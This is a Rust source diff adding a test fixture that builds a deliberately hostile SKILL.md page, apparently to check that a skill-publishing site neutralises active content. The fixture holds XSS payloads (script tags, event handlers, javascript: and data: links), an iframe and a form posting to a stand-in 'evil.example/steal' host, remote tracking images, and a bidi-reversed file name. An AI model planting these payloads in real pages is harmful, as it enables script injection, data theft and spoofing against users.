@@ -147,6 +147,31 @@ fn tar_header(name: &[u8], kind: u8, size: usize, link: &[u8]) -> [u8; 512] {
     header
 }
 
+/// A SKILL.md (skill `hostile`) whose body tries everything a page must not let run or
+/// load: script tags, event handlers, `javascript:` and `data:` links, SVG with script,
+/// frames, forms, styles, remote images, bidi controls, and 5,000 lines of text. The
+/// audit lets it publish (it runs nothing on the agent's side; its bidi controls warn).
+pub fn hostile_skill_md() -> String {
+    let mut text = String::from(
+        "---\nname: hostile\ndescription: A page test skill\n---\n# Hostile\n\n\
+         <script>alert('script')</script>\n\n\
+         <img src=x onerror=alert('img')>\n\n\
+         [a link](javascript:alert('link')) and [data](data:text/html;base64,PHNjcmlwdD4=)\n\n\
+         <svg onload=alert('svg')><script>alert('svg script')</script></svg>\n\n\
+         <iframe src=\"https://evil.example/frame\"></iframe>\n\n\
+         <form action=\"https://evil.example/steal\"><input name=q></form>\n\n\
+         <a href=\"https://evil.example\" onclick=\"alert('click')\">click</a>\n\n\
+         <style>body { background: url(https://evil.example/bg.png) }</style>\n\n\
+         ![pixel](https://evil.example/pixel.png)\n\n\
+         [tricky](<javascript:alert('angle')>) [spaced]( javascript:alert('space') )\n\n\
+         Reversed: \u{202E}txt.exe\u{202C} done.\n\n",
+    );
+    for line in 1..=5000 {
+        text.push_str(&format!("line {line}\n"));
+    }
+    text
+}
+
 /// A gzipped tar holding a valid SKILL.md and then one hostile entry (written raw: the tar
 /// crate refuses to write such names), so that only the hostile entry can be the reason it
 /// is refused.
